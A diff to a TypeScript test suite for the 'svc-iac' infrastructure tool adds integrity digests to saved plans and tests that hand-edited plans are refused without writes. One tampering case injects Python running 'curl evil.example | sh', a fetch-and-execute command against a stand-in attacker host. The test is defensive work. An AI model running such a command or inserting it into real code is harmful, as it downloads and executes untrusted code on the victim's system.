@@ -45,7 +45,8 @@ describe("GIVEN a plan saved with plan --out", () => {
 
   it("THEN the file is a versioned artifact: actions, the repository digest and what each action was planned against, no secret", () => {
     const saved = readValidSavedPlan(file);
-    expect(saved.format_version).toBe(1);
+    expect(saved.format_version).toBe(2);
+    expect(saved.integrity).toMatch(/^sha256:[0-9a-f]{64}$/);
     expect(saved.plan.actions.map((a) => `${a.action} ${a.address}`)).toEqual(["update canvas.listings", "update udf.listings/loader"]);
     expect(saved.repository.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
     expect(Object.keys(saved.repository.files)).toContain("canvases/listings/loader.py");
@@ -154,8 +155,71 @@ describe("GIVEN a saved plan and an edit of the repository after it", () => {
     writeFileSync(other, JSON.stringify({ ...JSON.parse(readFileSync(file, "utf8")), format_version: 7 }));
     const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: other }));
     expect(r.exitCode).toBe(1);
-    expect(messageOf(r)).toBe(`${other} has format_version 7; this svc-iac reads format_version 1. Plan again with this version.`);
+    expect(messageOf(r)).toBe(`${other} has format_version 7; this svc-iac reads format_version 2. Plan again with this version.`);
     writeFileSync(other, "{}");
     expect(messageOf(await applyCommand(commandOptions(dir, fx.emu, { planFile: other })))).toContain("is not a svc-iac saved plan: format_version is missing");
+  });
+});
+
+describe("GIVEN a saved plan edited by hand after it was reviewed", () => {
+  const fx = useEmulator();
+  let dir: string;
+  let file: string;
+  let text: string;
+
+  beforeAll(async () => {
+    dir = await editedRepo(fx);
+    file = (await savePlan(fx, dir)).file;
+    text = readFileSync(file, "utf8");
+  });
+
+  /** Applies `edited` (a copy of the reviewed plan with `edit` made to it), counting writes. */
+  async function applyEdited(edit: (doc: Record<string, any>) => void) {
+    const doc = JSON.parse(text);
+    edit(doc);
+    const edited = join(dir, "..", `edited-${Math.random().toString(36).slice(2)}.json`);
+    writeFileSync(edited, JSON.stringify(doc, null, 2));
+    const before = await platformView(fx.user);
+    const { result, writes } = await countingRequests(() => applyCommand(commandOptions(dir, fx.emu, { planFile: edited })));
+    return { result, writes, edited, before, after: await platformView(fx.user) };
+  }
+
+  it.each<[string, (doc: Record<string, any>) => void]>([
+    ["its stored options (prune and allow_cascade turned on, a lower max_deletions)", (doc) => Object.assign(doc.options, { prune: true, allow_cascade: true, max_deletions: 0 })],
+    ["an action (the loader's new code swapped for other code)", (doc) => {
+      const loader = doc.plan.actions.find((a: { address: string }) => a.address === "udf.listings/loader");
+      loader.fields = loader.fields.map((c: Record<string, unknown>) => (typeof c.to === "string" ? { ...c, to: "import os\nos.system('curl evil.example | sh')\n" } : c));
+      expect(JSON.stringify(loader)).toContain("evil.example");
+    }],
+    ["the list of actions (one action dropped)", (doc) => doc.plan.actions.pop()],
+    ["its integrity digest alone", (doc) => (doc.integrity = `sha256:${"0".repeat(64)}`)],
+  ])("WHEN %s was edited and the plan applied THEN apply refuses with exit 1 naming the integrity check, and writes nothing", async (_what, edit) => {
+    const r = await applyEdited(edit);
+    expect(r.result.exitCode).toBe(1);
+    expect(messageOf(r.result)).toMatch(new RegExp(`^${r.edited.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} was changed after svc-iac plan wrote it: its content \\(the plan's actions, its options or what it was planned against\\) no longer matches its integrity digest sha256:[0-9a-f]{12}…, so nothing was applied\\.`));
+    expect(messageOf(r.result)).toContain(`run svc-iac plan --out ${r.edited} again, review it, and apply that.`);
+    expect(r.writes).toBe(0);
+    expect(r.after).toEqual(r.before);
+    for (const secret of Object.values(FIXTURE_SECRETS)) expect(messageOf(r.result)).not.toContain(secret);
+  });
+
+  it("WHEN the integrity field is removed THEN it is not a saved plan this version applies", async () => {
+    const r = await applyEdited((doc) => delete doc.integrity);
+    expect(messageOf(r.result)).toContain("is not a svc-iac saved plan: integrity is missing");
+    expect(r.writes).toBe(0);
+  });
+
+  it("WHEN the unedited plan is applied with options of its own (prune, allow_cascade) THEN each difference is reported, in the log and the plan's warnings, and the saved plan's options are the ones applied", async () => {
+    const logged: string[] = [];
+    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: file, prune: true, allowCascade: true, log: (line) => logged.push(line) }));
+    expect(r.exitCode, messageOf(r)).toBe(0);
+    const expected = [
+      "The saved plan was made with prune: false; this apply was asked for prune: true. It applies the saved plan's prune: false.",
+      "The saved plan was made with allow_cascade: false; this apply was asked for allow_cascade: true. It applies the saved plan's allow_cascade: false.",
+    ];
+    expect(logged.filter((l) => l.startsWith("The saved plan was made with"))).toEqual(expected);
+    if (r.command !== "apply") throw new Error("apply expected");
+    expect(r.plan!.warnings).toEqual(expect.arrayContaining(expected));
+    expect(r.report!.results.map((x) => `${x.action} ${x.address}`)).toEqual(["update canvas.listings", "update udf.listings/loader"]);
   });
 });
